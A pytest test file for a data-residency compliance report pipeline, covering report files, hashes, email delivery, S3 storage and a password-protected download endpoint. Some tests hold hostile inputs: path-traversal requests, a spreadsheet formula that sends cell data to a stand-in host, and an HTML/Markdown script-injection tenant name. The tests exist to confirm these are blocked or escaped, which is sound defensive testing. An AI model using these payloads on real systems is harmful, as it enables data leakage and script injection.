"""residency_report: rows, files and hashes, the email, downloads and the sign-off checks."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import signal
import time
import urllib.error
import urllib.parse
import urllib.request
from datetime import date

import pytest
from dagster import DagsterInstance, materialize
from psycopg.types.json import Jsonb

from mm_orchestration.console.downloads import make_server, serve_in_background
from mm_orchestration.features.residency.asset import residency_report
from mm_orchestration.platform.report_store import ReportStore
from tests import factories as f
from tests.sendgrid_server import Reply

# SQL or PostgreSQL tools that may differ by server version: CI runs these on 15 and 16.
pytestmark = pytest.mark.pg_versions

WEEK = "2026-11-16"


@pytest.fixture
def store(tmp_path):
    return ReportStore(root=str(tmp_path / "reports"))


@pytest.fixture
def agencies(conn):
    good = f.tenant(conn, name="Kangaroo Creative", region="ap-southeast-2")
    f.asset(conn, good, storage_region="ap-southeast-2")
    f.asset(conn, good, storage_region="ap-southeast-2")
    offshore_video = f.tenant(conn, name="Bondi Pictures", region="ap-southeast-2")
    f.asset(conn, offshore_video, storage_region="us-east-1")
    offshore_db = f.tenant(conn, name="Pacific Rim Media", region="us-west-2")
    return good, offshore_video, offshore_db


def run(portal_db, mailer, job_settings, store):
    with DagsterInstance.ephemeral() as instance:
        return materialize(
            [residency_report],
            partition_key=WEEK,
            instance=instance,
            raise_on_error=False,
            resources={
                "portal_db": portal_db,
                "mailer": mailer,
                "job_settings": job_settings,
                "report_store": store,
            },
        )


def result_metadata(result):
    return [
        {k: getattr(v, "value", v) for k, v in mat.metadata.items()}
        for mat in result.asset_materializations_for_node("ops__residency_report")
    ]


def test_report_rows_files_hash_email_and_checks(
    conn, portal_db, mailer, job_settings, store, sendgrid, agencies, tmp_path
):
    result = run(portal_db, mailer, job_settings, store)
    assert result.success
    week_start, uri, sha, rows, compliant, emailed, html_uri, html_sha = conn.execute(
        "SELECT week_start, storage_uri, sha256, row_count, compliant, emailed_at, html_uri,"
        " html_sha256 FROM ops.residency_reports"
    ).fetchone()
    assert week_start == date(2026, 11, 16) and not compliant and emailed is not None
    # The row locates its files: absolute file URIs of the folder store, no store implied.
    root = (tmp_path / "reports").resolve()
    assert uri == (root / "residency" / WEEK / f"residency-{WEEK}.csv").as_uri()
    assert html_uri == (root / "residency" / WEEK / f"residency-{WEEK}.html").as_uri()
    assert uri.startswith("file:///") and html_uri.startswith("file:///")
    key = store.key_for(uri)
    assert key == f"residency/{WEEK}/residency-{WEEK}.csv"
    content = store.get_uri(uri, sha)
    assert hashlib.sha256(content).hexdigest() == sha
    assert hashlib.sha256(store.get_uri(html_uri, html_sha)).hexdigest() == html_sha
    table = list(csv.DictReader(io.StringIO(content.decode())))
    assert len(table) == rows
    by = {(r["tenant"], r["system"]): r for r in table}
    assert by[("Kangaroo Creative", "portal database")]["status"] == "ok"
    assert (
        by[("Kangaroo Creative", "video storage")]["evidence"]
        == "portal.media_assets.storage_region (2 videos)"
    )
    assert by[("Bondi Pictures", "video storage")]["status"] == "exception"
    assert by[("Bondi Pictures", "video storage")]["country"] == "US"
    assert by[("Pacific Rim Media", "portal database")]["status"] == "exception"
    assert by[("Pacific Rim Media", "portal database")]["onshore"] == "False"
    assert by[("Pacific Rim Media", "portal database")]["country"] == "US"
    # A tenant's backups are where its database is, and judged like it.
    backups = by[("Pacific Rim Media", "backups")]
    assert (backups["region"], backups["country"], backups["status"]) == (
        "us-west-2",
        "US",
        "exception",
    )
    assert backups["onshore"] == "False" and backups["vendor"] == "Neon"
    assert "data_region" in backups["evidence"]
    home = by[("Kangaroo Creative", "backups")]
    assert (home["region"], home["country"], home["status"]) == ("ap-southeast-2", "AU", "ok")
    # Vendors' country follows their region, through the same map as every other row.
    assert by[("Kangaroo Creative", "email delivery")]["vendor"] == "Twilio SendGrid"
    for tenant in ("Kangaroo Creative", "Bondi Pictures", "Pacific Rim Media"):
        for system in ("email delivery", "error monitoring"):
            row = by[(tenant, system)]
            assert (row["region"], row["country"], row["onshore"]) == ("us", "US", "False")
            assert row["status"] == "ok" and "disclosed" in row["status_reason"]
    assert not [r for r in table if r["country"] in ("", "unknown")]
    assert {r["status_reason"] for r in table if r["status"] == "exception"} == {
        "tenant data outside Australia"
    }
    assert {r["system"] for r in table} == {
        "portal database",
        "video storage",
        "email delivery",
        "error monitoring",
        "backups",
    }
    checks = {c.check_name: c for c in result.get_asset_check_evaluations()}
    exceptions = checks["no_residency_exceptions"]
    assert not exceptions.passed and exceptions.severity.value == "ERROR"
    assert "Bondi Pictures" in exceptions.description
    assert "Pacific Rim Media" in exceptions.description
    assert not checks["restore_drill_within_35_days"].passed  # no drill recorded yet
    assert "2 tenant(s) with 3 exception row(s)" in exceptions.description
    assert exceptions.metadata["exception_rows"].value == 3
    assert exceptions.metadata["exception_tenant_count"].value == 2
    (mat,) = result.asset_materializations_for_node("ops__residency_report")
    meta = {k: getattr(v, "value", v) for k, v in mat.metadata.items()}
    assert meta["download_csv"].endswith(f"/reports/{key}")
    assert meta["download_html"].endswith(f"/reports/{store.key_for(html_uri)}")
    assert (meta["csv_uri"], meta["html_uri"]) == (uri, html_uri)
    assert (meta["csv_sha256"], meta["html_sha256"]) == (sha, html_sha)
    # Every count says what it counts, and agrees with the table it sits beside.
    exception_rows = [r for r in table if r["status"] == "exception"]
    assert meta["tenants"] == 3 and meta["report_rows"] == rows == len(table)
    assert meta["exception_tenants"] == 2 == len({r["tenant_id"] for r in exception_rows})
    assert meta["exception_rows"] == 3 == len(exception_rows)
    assert meta["residency_compliant"] is False
    preview = meta["exception_rows_preview"]
    assert preview.startswith("**3 exception row(s) across 2 tenant(s)**")
    preview_rows = [
        line for line in preview.splitlines() if line.startswith("| ") and "---" not in line
    ][1:]
    assert len(preview_rows) == meta["exception_rows"]
    assert "| Bondi Pictures | video storage | us-east-1 | US |" in preview
    assert "| Pacific Rim Media | backups | us-west-2 | US |" in preview
    assert meta["emailed_at"] != "not yet" and meta["residency_emails_sent_this_run"] == 1
    assert "exceptions" not in meta and "rows" not in meta and "emails_sent" not in meta

    # The email: once, to compliance, with both files (as first generated: a rerun of the
    # week regenerates the report but never emails it again).
    assert run(portal_db, mailer, job_settings, store).success
    (request,) = sendgrid.mail_requests
    assert request.body["personalizations"][0]["to"] == [
        {"email": "compliance@motionmavericks.com.au"}
    ]
    names = sorted(a["filename"] for a in request.body["attachments"])
    assert names == ["residency-2026-11-16.csv", "residency-2026-11-16.html"]
    attached = next(a for a in request.body["attachments"] if a["filename"].endswith(".csv"))
    assert hashlib.sha256(base64.b64decode(attached["content"])).hexdigest() == sha
    text = request.body["content"][0]["value"]
    assert uri in text and "3 exception row(s) across 2 tenant(s)" in text
    (again,) = result_metadata(run(portal_db, mailer, job_settings, store))
    assert again["residency_emails_sent_this_run"] == 0 and again["emailed_at"] != "not yet"


def test_drill_check_passes_with_a_recent_successful_drill(
    conn, portal_db, mailer, job_settings, store
):
    conn.execute(
        "INSERT INTO ops.backup_drills (started_at, finished_at, status, method) "
        "VALUES (now() - interval '10 days', now() - interval '10 days', 'succeeded',"
        " 'local')"
    )
    t = f.tenant(conn)
    f.asset(conn, t, storage_region="ap-southeast-2")
    result = run(portal_db, mailer, job_settings, store)
    checks = {c.check_name: c.passed for c in result.get_asset_check_evaluations()}
    assert checks == {"no_residency_exceptions": True, "restore_drill_within_35_days": True}
    conn.execute("UPDATE ops.backup_drills SET finished_at = now() - interval '36 days'")
    result = run(portal_db, mailer, job_settings, store)
    checks = {c.check_name: c.passed for c in result.get_asset_check_evaluations()}
    assert checks["restore_drill_within_35_days"] is False


def test_download_endpoint(
    conn, database_url, portal_db, mailer, job_settings, store, agencies, tmp_path
):
    (meta,) = result_metadata(run(portal_db, mailer, job_settings, store))
    uri, html_uri = conn.execute(
        "SELECT storage_uri, html_uri FROM ops.residency_reports"
    ).fetchone()
    key = store.key_for(uri)
    (tmp_path / "secret.txt").write_text("not a report")
    server = make_server(store, database_url, "s3cret", port=0)
    serve_in_background(server)
    base = f"http://127.0.0.1:{server.server_address[1]}"

    def get(path, password="s3cret"):
        request = urllib.request.Request(base + path)
        if password is not None:
            token = base64.b64encode(f"compliance:{password}".encode()).decode()
            request.add_header("Authorization", f"Basic {token}")
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                return response.status, response.read()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read()

    try:
        # The asset's links, as they are, download the files the row's URIs name.
        for link, recorded in ((meta["download_csv"], uri), (meta["download_html"], html_uri)):
            status, body = get(urllib.parse.urlsplit(link).path)
            assert status == 200 and body == store.get_uri(recorded)
        status, body = get(f"/reports/{key}")
        assert status == 200 and body == store.get(key)
        assert get(f"/reports/{uri}")[0] in (403, 404)  # a URI is not a key
        assert get(f"/reports/{key}", password="wrong")[0] == 401
        assert get(f"/reports/{key}", password=None)[0] == 401
        assert get("/reports/../secret.txt")[0] in (403, 404)
        assert get("/reports/%2E%2E/secret.txt")[0] == 403
        # Whatever the path holds, an answer (a request without one hung the client before).
        for hostile in ("/reports/residency/%00x.csv", "/reports/%FF%FE", "/reports/a%0Ab"):
            status, body = get(hostile)
            assert status == 400, (hostile, status, body)
        store.path(key).write_bytes(store.get(key) + b"tampered")
        status, body = get(f"/reports/{key}")
        assert status == 409 and b"SHA-256" in body
    finally:
        server.shutdown()
        server.server_close()


def test_serve_reports_command_serves_the_store_of_the_settings(
    conn, database_url, portal_db, mailer, job_settings, store, agencies, tmp_path
):
    """`mm-jobs serve-reports` (production's download endpoint) reads MM_DATA_DIR's store,
    insists on a password, and stops cleanly on SIGTERM (systemd's stop)."""
    from mm_orchestration.local.embedded_pg import free_port
    from tests.local_stack import own_env, start

    assert run(portal_db, mailer, job_settings, store).success
    key = store.key_for(conn.execute("SELECT storage_uri FROM ops.residency_reports").fetchone()[0])
    port = free_port()
    env = own_env(tmp_path, DATABASE_URL=database_url)  # the store is tmp_path/reports
    refused = start(["serve-reports", "--port", str(port)], env, tmp_path / "refused.log")
    assert refused.wait(timeout=60) == 2
    assert "MM_REPORTS_PASSWORD is not set" in (tmp_path / "refused.log").read_text()

    env["MM_REPORTS_PASSWORD"] = "s3cret"
    proc = start(["serve-reports", "--port", str(port)], env, tmp_path / "serve.log")
    try:
        request = urllib.request.Request(f"http://127.0.0.1:{port}/reports/{key}")
        token = base64.b64encode(b"compliance:s3cret").decode()
        request.add_header("Authorization", f"Basic {token}")
        for _ in range(100):
            try:
                with urllib.request.urlopen(request, timeout=5) as response:
                    assert response.read() == store.get(key)
                break
            except urllib.error.URLError as exc:
                assert not isinstance(exc, urllib.error.HTTPError), exc
                assert proc.poll() is None, (tmp_path / "serve.log").read_text()
                time.sleep(0.2)
        else:
            raise AssertionError("serve-reports did not answer")
    finally:
        proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=30) == 0


@pytest.fixture
def s3(monkeypatch):
    """A moto S3 server with the bucket `mm-reports`: (boto3 client, endpoint URL)."""
    import boto3
    from moto.server import ThreadedMotoServer

    from mm_orchestration.local.embedded_pg import free_port

    port = free_port()
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port)
    server.start()
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "test")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "test")
    try:
        endpoint = f"http://127.0.0.1:{port}"
        # moto keeps its buckets per process, not per server: start from none.
        reset = urllib.request.Request(f"{endpoint}/moto-api/reset", method="POST")
        urllib.request.urlopen(reset, timeout=10).close()
        client = boto3.client("s3", region_name="ap-southeast-2", endpoint_url=endpoint)
        client.create_bucket(
            Bucket="mm-reports", CreateBucketConfiguration={"LocationConstraint": "ap-southeast-2"}
        )
        yield client, endpoint
    finally:
        server.stop()


def test_s3_compatible_store_round_trip_and_tamper_check(s3):
    from mm_orchestration.platform.report_store import ReportStoreError

    client, endpoint = s3
    store = ReportStore(s3_bucket="mm-reports", s3_endpoint_url=endpoint)
    digest = store.put("residency/2026-11-16/r.csv", b"a,b\n1,2\n")
    assert store.get("residency/2026-11-16/r.csv", digest) == b"a,b\n1,2\n"
    uri = store.uri("residency/2026-11-16/r.csv")
    assert uri == "s3://mm-reports/reports/residency/2026-11-16/r.csv"
    assert store.key_for(uri) == "residency/2026-11-16/r.csv"
    assert store.get_uri(uri, digest) == b"a,b\n1,2\n"
    for elsewhere in (
        "s3://other-bucket/reports/residency/2026-11-16/r.csv",
        "s3://mm-reports/not-reports/residency/2026-11-16/r.csv",
        "s3://mm-reports/reports/../secret.csv",
        "file:///tmp/reports/residency/2026-11-16/r.csv",
        "residency/2026-11-16/r.csv",
    ):
        with pytest.raises(ReportStoreError, match="not in this report store"):
            store.key_for(elsewhere)
    client.put_object(Bucket="mm-reports", Key="reports/residency/2026-11-16/r.csv", Body=b"x")
    with pytest.raises(ReportStoreError, match="SHA-256"):
        store.get("residency/2026-11-16/r.csv", digest)
    with pytest.raises(ReportStoreError, match="outside"):
        store.check_key("../other/secret.csv")


@pytest.mark.parametrize("prefix", ["reports#2026", "q?x", "team reports", "a%2Fb"])
def test_s3_uris_round_trip_whatever_the_prefix_holds(s3, prefix):
    """An s3:// URI is percent-encoded, so a prefix with '#', '?', a space or '%' is part
    of the key, never a fragment or a query; the store reads its own URIs back."""
    _client, endpoint = s3
    store = ReportStore(s3_bucket="mm-reports", s3_prefix=prefix, s3_endpoint_url=endpoint)
    digest = store.put("residency/2026-11-16/r.csv", b"a,b\n")
    uri = store.uri("residency/2026-11-16/r.csv")
    assert "#" not in uri and "?" not in uri and " " not in uri
    assert store.key_for(uri) == "residency/2026-11-16/r.csv"
    assert store.get_uri(uri, digest) == b"a,b\n"


def test_report_in_s3_is_recorded_under_s3_uris_and_emailed_from_them(
    conn, portal_db, mailer, job_settings, sendgrid, agencies, s3
):
    client, endpoint = s3
    store = ReportStore(s3_bucket="mm-reports", s3_endpoint_url=endpoint)
    (meta,) = result_metadata(run(portal_db, mailer, job_settings, store))
    uri, sha, html_uri, html_sha = conn.execute(
        "SELECT storage_uri, sha256, html_uri, html_sha256 FROM ops.residency_reports"
    ).fetchone()
    assert uri == f"s3://mm-reports/reports/residency/{WEEK}/residency-{WEEK}.csv"
    assert html_uri == f"s3://mm-reports/reports/residency/{WEEK}/residency-{WEEK}.html"
    assert (meta["csv_uri"], meta["html_uri"]) == (uri, html_uri)
    assert meta["download_csv"].endswith(f"/reports/residency/{WEEK}/residency-{WEEK}.csv")
    stored = client.get_object(
        Bucket="mm-reports", Key=f"reports/residency/{WEEK}/residency-{WEEK}.csv"
    )
    assert hashlib.sha256(stored["Body"].read()).hexdigest() == sha
    assert hashlib.sha256(store.get_uri(html_uri)).hexdigest() == html_sha
    (request,) = sendgrid.mail_requests
    attached = {a["filename"]: base64.b64decode(a["content"]) for a in request.body["attachments"]}
    assert hashlib.sha256(attached[f"residency-{WEEK}.csv"]).hexdigest() == sha
    assert uri in request.body["content"][0]["value"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    conn, portal_db, mailer, job_settings, store
):
    """Tenant names a spreadsheet would evaluate as formulas (CWE-1236) arrive as text."""
    import csv
    import io

    hostile = [
        '=HYPERLINK("http://x.example/?d="&B2,"details")',
        "@SUM(1+9)",
        "+61 studio",
        "-minus",
        "\tTabbed",
        "\r=1+1",
        "Acme Films\r=2+5",
    ]
    for name in hostile:
        tenant = f.tenant(conn, name=name, region="ap-southeast-2")
        f.asset(conn, tenant, storage_region="ap-southeast-2")
    assert run(portal_db, mailer, job_settings, store).success
    uri = conn.execute("SELECT storage_uri FROM ops.residency_reports").fetchone()[0]
    # As a spreadsheet reads it: a bare CR is a row break unless the cell is quoted.
    rows = list(csv.DictReader(io.StringIO(store.get_uri(uri).decode(), newline="")))
    names = {row["tenant"] for row in rows}
    for name in hostile:
        safe = name if name.startswith("Acme") else "'" + name
        assert safe in names, (name, names)
    every_cell = [cell for row in rows for cell in row.values()]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_region_to_country_map_covers_every_row_kind():
    from mm_orchestration.features.residency.regions import country, vendors

    for region in (
        "ap-sydney-1",
        "ap-melbourne-1",
        "syd1",
        "gcp-australia-southeast1",
        "ap-southeast-2",
        "aws-ap-southeast-4",
        "azure-australiaeast",
        "australiacentral2",
        "azure-australiacentral",
        "australia-southeast2",
        "syd",
    ):
        assert country(region) == "AU", region
    assert country("us") == country("US ") == country("us-west-2") == "US"
    assert country("aws-us-east-2") == country("azure-eastus2") == country("us-central1") == "US"
    assert country("eu-west-2") == "GB" and country("eu-central-1") == "DE"  # not "EU"
    assert country("de") == "DE" and country("ap-southeast-1") == "SG"
    assert country("mars-north-1") == country("unknown") == country("delhi") == "unknown"
    assert all(country(v.region) != "unknown" for v in vendors())


def test_unknown_regions_are_exceptions_never_silent(
    conn, portal_db, mailer, job_settings, store, monkeypatch
):
    """A region the map does not know is reported as unknown and counted as an exception,
    for a tenant's own data and for a vendor alike; two tenants sharing a name count twice."""
    from mm_orchestration.features.residency import regions, report

    first = f.tenant(conn, name="Acme", region="mars-north-1")
    second = f.tenant(conn, name="Acme", region="ap-southeast-2")
    f.asset(conn, second, storage_region=None)
    result = run(portal_db, mailer, job_settings, store)
    assert result.success
    uri = conn.execute("SELECT storage_uri FROM ops.residency_reports").fetchone()[0]
    table = list(csv.DictReader(io.StringIO(store.get_uri(uri).decode())))
    by = {(r["tenant_id"], r["system"]): r for r in table}
    for system in ("portal database", "backups"):
        row = by[(str(first), system)]
        assert (row["region"], row["country"], row["status"]) == (
            "mars-north-1",
            "unknown",
            "exception",
        )
        assert row["status_reason"].startswith("region not in the region-to-country map")
    video = by[(str(second), "video storage")]
    assert (video["region"], video["country"], video["status"]) == (
        "unknown",
        "unknown",
        "exception",
    )
    (meta,) = result_metadata(result)
    assert meta["exception_tenants"] == 2 and meta["exception_rows"] == 3
    assert meta["exception_rows_preview"].startswith("**3 exception row(s) across 2 tenant(s)**")
    check = next(
        c for c in result.get_asset_check_evaluations() if c.check_name == "no_residency_exceptions"
    )
    assert f"Acme ({first})" in check.description and f"Acme ({second})" in check.description

    # A vendor whose region nobody mapped: every tenant's row for it is an exception.
    nowhere = regions.VendorRegion("analytics", "Nowhere Inc", "events", "atlantis-1", "a doc")
    monkeypatch.setattr(report, "vendors", lambda: (*regions.vendors(), nowhere))
    conn.execute("UPDATE portal.tenants SET data_region = 'ap-southeast-2'")
    conn.execute("UPDATE portal.media_assets SET storage_region = 'ap-southeast-2'")
    (meta,) = result_metadata(run(portal_db, mailer, job_settings, store))
    assert meta["exception_tenants"] == 2 and meta["exception_rows"] == 2
    assert "| Nowhere Inc" not in meta["exception_rows_preview"]  # the preview shows systems
    assert "| analytics | atlantis-1 | unknown |" in meta["exception_rows_preview"]


def test_rows_from_before_uris_are_rewritten_when_proven_and_served_meanwhile(
    conn, database_url, portal_db, mailer, job_settings, store, sendgrid, agencies
):
    """Relative keys written before migration 0006: the download endpoint serves them by
    key (hash checked) and a queued email still renders; the next run rewrites each one
    whose file in the store still has its recorded hash to the store's URI (audited), and
    leaves and names one whose file is gone."""
    old_csv, old_html = (
        "residency/2026-11-09/residency-2026-11-09.csv",
        ("residency/2026-11-09/residency-2026-11-09.html"),
    )
    csv_sha, html_sha = store.put(old_csv, b"tenant\nA\n"), store.put(old_html, b"<p>old</p>")
    conn.execute(
        """INSERT INTO ops.residency_reports (week_start, storage_uri, sha256, row_count,
               compliant, html_uri, html_sha256, emailed_at)
           VALUES ('2026-11-09', %s, %s, 1, true, %s, %s, NULL),
                  ('2026-11-02', 'residency/2026-11-02/gone.csv', 'abc', 1, true, NULL, NULL,
                   now())""",
        [old_csv, csv_sha, old_html, html_sha],
    )
    conn.execute(
        """INSERT INTO ops.notification_outbox (idempotency_key, kind, recipient, payload)
           VALUES ('residency-report:2026-11-09', 'residency_report', 'c@example.com', %s)""",
        [
            Jsonb(
                {
                    "week": "2026-11-09",
                    "csv_key": old_csv,
                    "csv_sha256": csv_sha,
                    "html_key": old_html,
                    "html_sha256": html_sha,
                    "rows": 1,
                    "compliant": True,
                    "exceptions": [],
                }
            )
        ],
    )
    server = make_server(store, database_url, "s3cret", port=0)
    serve_in_background(server)
    request = urllib.request.Request(
        f"http://127.0.0.1:{server.server_address[1]}/reports/{old_csv}"
    )
    request.add_header("Authorization", "Basic " + base64.b64encode(b"compliance:s3cret").decode())
    try:
        with urllib.request.urlopen(request, timeout=10) as response:  # before the rewrite
            assert response.read() == b"tenant\nA\n"
        result = run(portal_db, mailer, job_settings, store)
        assert result.success
        with urllib.request.urlopen(request, timeout=10) as response:  # after it
            assert response.read() == b"tenant\nA\n"
    finally:
        server.shutdown()
        server.server_close()
    rows = dict(
        conn.execute(
            "SELECT week_start::text, (storage_uri, html_uri) FROM ops.residency_reports"
        ).fetchall()
    )
    assert rows["2026-11-09"] == (store.uri(old_csv), store.uri(old_html))
    assert rows["2026-11-09"][0].startswith("file:///")
    assert rows["2026-11-02"] == ("residency/2026-11-02/gone.csv", None)  # unproven: kept
    assert rows[WEEK][0] == store.uri(f"residency/{WEEK}/residency-{WEEK}.csv")
    audit = conn.execute(
        "SELECT details FROM ops.audit_log WHERE action = 'residency_report_uri_rewritten'"
        " ORDER BY id"
    ).fetchall()
    assert [(d["column"], d["from"], d["to"]) for (d,) in audit] == [
        ("storage_uri", old_csv, store.uri(old_csv)),
        ("html_uri", old_html, store.uri(old_html)),
    ]
    (meta,) = result_metadata(result)
    assert meta["legacy_rows_rewritten"] == 2 and meta["legacy_rows_unresolved"] == 1
    # The email queued before the change went out with its own files.
    old_mail = next(r for r in sendgrid.mail_requests if "2026-11-09" in r.body["subject"])
    attached = {a["filename"]: base64.b64decode(a["content"]) for a in old_mail.body["attachments"]}
    assert attached["residency-2026-11-09.csv"] == b"tenant\nA\n"
    # A second run has nothing left it can prove.
    (again,) = result_metadata(run(portal_db, mailer, job_settings, store))
    assert again["legacy_rows_rewritten"] == 0 and again["legacy_rows_unresolved"] == 1


def test_an_email_still_waiting_sends_the_latest_files_of_its_week(
    conn, portal_db, mailer, job_settings, store, sendgrid, agencies
):
    """SendGrid down on the first run: the rerun regenerates the files, and the queued
    email goes out once, with the files (and hashes) the row now records."""
    sendgrid.rule = lambda body: Reply(503, {"errors": [{"message": "down"}]})
    (first,) = result_metadata(run(portal_db, mailer, job_settings, store))
    assert first["emailed_at"] == "not yet" and first["residency_emails_sent_this_run"] == 0
    sendgrid.rule = None
    (second,) = result_metadata(run(portal_db, mailer, job_settings, store))
    assert second["emailed_at"] != "not yet" and second["residency_emails_sent_this_run"] == 1
    sha = conn.execute("SELECT sha256 FROM ops.residency_reports").fetchone()[0]
    (sent,) = [r for r in sendgrid.mail_requests if r.status == 202]
    attached = next(a for a in sent.body["attachments"] if a["filename"].endswith(".csv"))
    assert hashlib.sha256(base64.b64decode(attached["content"])).hexdigest() == sha
    assert run(portal_db, mailer, job_settings, store).success
    assert len([r for r in sendgrid.mail_requests if r.status == 202]) == 1


@pytest.mark.parametrize(
    "region",
    [
        "azure-australiaeast",
        "azure-australiacentral",
        "australiacentral2",
        "aws-ap-southeast-4",
        "ap-southeast-2\u00a0",  # a trailing no-break space, as pasted from a web page
        "\u2003AP-Southeast-2 ",
        "australia-southeast1\t",
    ],
)
def test_every_australian_region_is_onshore_however_it_is_written(
    conn, portal_db, mailer, job_settings, store, region
):
    """Onshore follows the region's country: a region the map calls AU is never an
    exception, and SQL and Python trim a region alike."""
    tenant = f.tenant(conn, name="Kangaroo Creative", region=region)
    f.asset(conn, tenant, storage_region=region)
    assert run(portal_db, mailer, job_settings, store).success
    uri = conn.execute("SELECT storage_uri FROM ops.residency_reports").fetchone()[0]
    rows = [r for r in csv.DictReader(io.StringIO(store.get_uri(uri).decode()))]
    judged = [r for r in rows if r["system"] in ("portal database", "backups", "video storage")]
    assert [(r["region"], r["country"], r["onshore"], r["status"]) for r in judged] == [
        (region.strip(), "AU", "True", "ok")
    ] * 3


HOSTILE_NAME = "[details](http://x.example/?d=1) <img src=x onerror=alert(1)> **OK** | x\nNext"


def test_tenant_names_are_literal_text_in_the_console_and_the_subject(
    conn, portal_db, mailer, job_settings, store, sendgrid
):
    """A name typed by a portal user is shown as itself: no link, image, emphasis or
    extra cell in the asset's Markdown preview, and it never writes the subject line."""
    f.tenant(conn, name=HOSTILE_NAME, region="us-west-2")
    result = run(portal_db, mailer, job_settings, store)
    meta = result.asset_materializations_for_node("ops__residency_report")[0].metadata
    preview = meta["exception_rows_preview"].value
    line = next(row for row in preview.splitlines() if "details" in row)
    assert line.startswith(
        "| \\[details\\](http\\://x.example/?d=1) \\<img src=x onerror=alert(1)\\>"
        " \\*\\*OK\\*\\* \\| x Next |"
    )
    assert line.count(" | ") == 4  # five cells, as the header says
    (check,) = [
        c for c in result.get_asset_check_evaluations() if c.check_name == "no_residency_exceptions"
    ]
    assert "\\[details\\](http\\://x.example/?d=1)" in check.description
    subject = sendgrid.mail_requests[-1].body["subject"]
    assert "details" not in subject and "\n" not in subject
    assert subject.endswith("NOT compliant (1 tenant(s) with exceptions)")
